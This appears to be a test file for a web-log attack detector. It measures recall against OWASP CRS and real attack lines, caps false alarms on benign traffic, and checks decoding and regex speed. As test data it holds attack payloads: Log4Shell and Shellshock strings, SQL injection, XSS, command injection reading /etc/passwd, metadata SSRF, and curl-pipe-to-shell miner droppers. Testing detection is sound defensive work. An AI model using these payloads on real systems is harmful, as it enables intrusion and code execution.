/**
 * Attack classes beyond the famous CVEs (issue 15), measured by scripts/attack-recall.ts on public material
 * (../shared/corpus: OWASP CRS regression payloads as log lines, real attack and benign lines). The floors are
 * the figures reached when the rules were written, less a small margin: a rule change that loses recall, or
 * lets benign lines raise events, fails here. Run the script to see per-class figures and the misses.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { test } from "node:test";
import { type Scored, scoreAll, summarize } from "../../scripts/attack-recall.ts";
import { decodeLevels, deepDecode } from "../../src/collect/logs/engine/decode.ts";
import { parseLine } from "../../src/collect/logs/engine/format.ts";
import { matchEntry } from "../../src/collect/logs/engine/match.ts";
import { loadRules } from "../../src/rules/logs.ts";

const CRS = new URL("../../../shared/corpus/crs/lines.jsonl", import.meta.url).pathname;
const CORPUS = new URL("../../../shared/corpus/lines.jsonl", import.meta.url).pathname;
const rules = loadRules();
const idOf = (line: string) => {
  const e = parseLine(line, 1, undefined);
  return e ? matchEntry(rules, e)?.id : undefined;
};

let scored: Scored[] | undefined;
const all = () => {
  scored ??= scoreAll(rules);
  return scored;
};
const rate = (x: { hit: number; n: number }) => x.hit / x.n;

test("CRS paranoia-level-1 payloads: at least 88% raise an event (86% on the held-out quarter)", {
  skip: !existsSync(CRS) && "corpus not present",
}, () => {
  const s = summarize(all());
  assert.ok(s.crsPl1.n > 600, `${s.crsPl1.n} CRS PL1 lines`);
  assert.ok(rate(s.crsPl1) >= 0.88, `CRS PL1 recall ${s.crsPl1.hit}/${s.crsPl1.n}`);
  assert.ok(rate(s.crsPl1HeldOut) >= 0.86, `held-out ${s.crsPl1HeldOut.hit}/${s.crsPl1HeldOut.n}`);
});

test("CRS per class floors (paranoia level 1)", { skip: !existsSync(CRS) && "corpus not present" }, () => {
  const floors: Record<string, number> = {
    "os-command": 0.85,
    "php-injection": 0.88,
    "generic-injection": 0.9,
    sqli: 0.7,
    xss: 0.82,
    lfi: 0.8,
  };
  for (const [cls, floor] of Object.entries(floors)) {
    const sel = all().filter((x) => x.set === "crs" && x.pl === 1 && x.cls === cls);
    const hit = sel.filter((x) => x.rule).length;
    assert.ok(sel.length > 0 && hit / sel.length >= floor, `${cls}: ${hit}/${sel.length} < ${floor}`);
  }
});

test("real attack lines: at least 95% raise an event, also on the held-out sources", {
  skip: !existsSync(CORPUS) && "corpus not present",
}, () => {
  const s = summarize(all());
  assert.ok(rate(s.realAttack) >= 0.95, `real attack recall ${s.realAttack.hit}/${s.realAttack.n}`);
  assert.ok(
    rate(s.realAttackHeldOut) >= 0.95,
    `held-out ${s.realAttackHeldOut.hit}/${s.realAttackHeldOut.n}`,
  );
});

test("real benign lines: at most 1% raise any event, at most 0.1% one of medium or above", {
  skip: !existsSync(CORPUS) && "corpus not present",
}, () => {
  const { benign } = summarize(all());
  assert.ok(benign.n > 10_000, `${benign.n} benign lines`);
  assert.ok(benign.any / benign.n <= 0.01, `${benign.any}/${benign.n} benign lines raise an event`);
  assert.ok(benign.mediumUp / benign.n <= 0.001, `${benign.mediumUp}/${benign.n} medium or above`);
});

test("decoding as a lax application would: HTML entities, overlong UTF-8, %u, double encoding", () => {
  assert.equal(deepDecode("&#x24;&#00000000000000000000123;jndi:ldap://x/a}"), "$\u007bjndi:ldap://x/a}");
  assert.equal(deepDecode("&lt;script&gt;"), "<script>");
  assert.equal(decodeLevels("..%c0%af..%c0%afetc%c0%afpasswd").twice, "../../etc/passwd");
  assert.equal(decodeLevels("%u002e%u002e%u002f").once, "../");
  assert.equal(decodeLevels("%253Cscript%253E").twice, "<script>");
  // Unknown entities and out-of-range numbers stay as they are.
  assert.equal(deepDecode("&bogus; &#x110000;"), "&bogus; &#x110000;");
});

test("every logged field an attacker controls is read, after the server's decoding", () => {
  const l = (req: string, ua = "Mozilla/5.0", ref = "-") =>
    `203.0.113.5 - - [12/Mar/2024:02:36:38 +0100] "${req}" 404 196 "${ref}" "${ua}"`;
  assert.equal(idOf(l("GET /get HTTP/1.1", "&#x24;&#123;jndi:ldap://evil/x}")), "cve-2021-44228");
  assert.equal(idOf(l("GET /a?x=%253Cscript%253Ealert(1) HTTP/1.1")), "attack-xss");
  assert.equal(
    idOf(l("GET / HTTP/1.1", "Mozilla/5.0", "https://x/?q=1' union select password from users--")),
    "attack-sqli",
  );
  assert.equal(idOf(l("GET /p/1;cat%20/etc/passwd HTTP/1.1")), "attack-cmd-injection");
  assert.equal(idOf(l("GET /get HTTP/1.1", "() { :; }; echo; /bin/bash -c id")), "cve-2014-6271");
  assert.equal(idOf(l("GET /x?q={{7*7}} HTTP/1.1")), "attack-code-injection");
  assert.equal(idOf(l("GET /x?u=http://169.254.169.254/latest/meta-data/ HTTP/1.1")), "attack-ssrf");
});

test("wrong attributions fixed: Nimda is not CVE-2021-42013, Nmap's GET /HNAP1 is not iot-rce", () => {
  const nimda = `198.51.100.21 - - [12/Mar/2024:02:36:38 +0100] "GET /scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir HTTP/1.0" 404 289 "-" "-"`;
  assert.equal(idOf(nimda), "legacy-probes");
  const nmap = `198.51.100.20 - - [12/Mar/2024:02:36:38 +0100] "GET /HNAP1 HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"`;
  assert.equal(idOf(nmap), "legacy-probes");
  const hnap = `182.122.177.189 - - [05/Nov/2021:04:23:42 +0100] "POST /HNAP1/ HTTP/1.0" 404 153 "-" "-"`;
  assert.equal(idOf(hnap), "iot-rce");
});

test("campaign indicators: RedTail's client and droppers, Kinsing, perfctl", () => {
  const l = (req: string, ua = "Mozilla/5.0") =>
    `203.0.113.60 - - [29/Nov/2023:10:00:01 +0000] "${req}" 404 196 "-" "${ua}"`;
  assert.equal(idOf(l("GET / HTTP/1.1", "libredtail-http")), "campaign-miners");
  assert.equal(idOf(l("GET /?x=wget%20http://203.0.113.9/redtail.x86_64 HTTP/1.1")), "campaign-miners");
  assert.equal(idOf(l("GET /?x=curl%20http://203.0.113.9/clean.sh|sh HTTP/1.1")), "campaign-miners");
  assert.equal(idOf(l("GET /?x=/tmp/.perf.c/perfctl HTTP/1.1")), "campaign-miners");
  assert.equal(idOf(l("GET /docs/setup.sh HTTP/1.1")), undefined);
});

test("the new rules stay fast on hostile 8 KB fields (bounded quantifiers only)", () => {
  const units = [
    " ",
    "\t",
    "\n",
    "a",
    "-a ",
    "%",
    "{",
    "$",
    "/",
    "[a]",
    "0",
    "((",
    "'",
    "<",
    "=",
    "&",
    ";",
    "|",
  ];
  const more = [
    "`",
    "$(",
    "{{",
    "#{",
    "${",
    "\\",
    "a,",
    "or ",
    "if ",
    "/*",
    "?",
    "x@",
    "0x",
    "<a ",
    "/etc/",
    "a[",
  ];
  const NEW = /^(attack-|campaign-|scanner-agent|webshell-sweep|proxy-abuse|protocol-garbage|legacy-probes)/;
  let worst = 0;
  let where = "";
  for (const r of rules.filter((x) => NEW.test(x.id)))
    for (const c of [...r.all, ...r.anyOf, ...r.none]) {
      // No unbounded quantifier: a match from one start is bounded, so a field costs linear time.
      assert.doesNotMatch(c.re.source.replace(/\\./g, "").replace(/\[[^\]]*\]/g, ""), /[*+]|\{\d+,\}/, r.id);
      for (const u of [...units, ...more])
        for (const pre of ["", "x=", "WHILE(", "for ", "<a ", "select "]) {
          const s = `${pre}${u.repeat(Math.ceil(8190 / u.length))}`.slice(0, 8190);
          const t = performance.now();
          c.re.test(s);
          const d = performance.now() - t;
          if (d > worst) [worst, where] = [d, `${r.id} ${JSON.stringify(pre + u)}`];
        }
    }
  assert.ok(worst < 250, `slowest: ${where} ${worst.toFixed(1)} ms`);
});
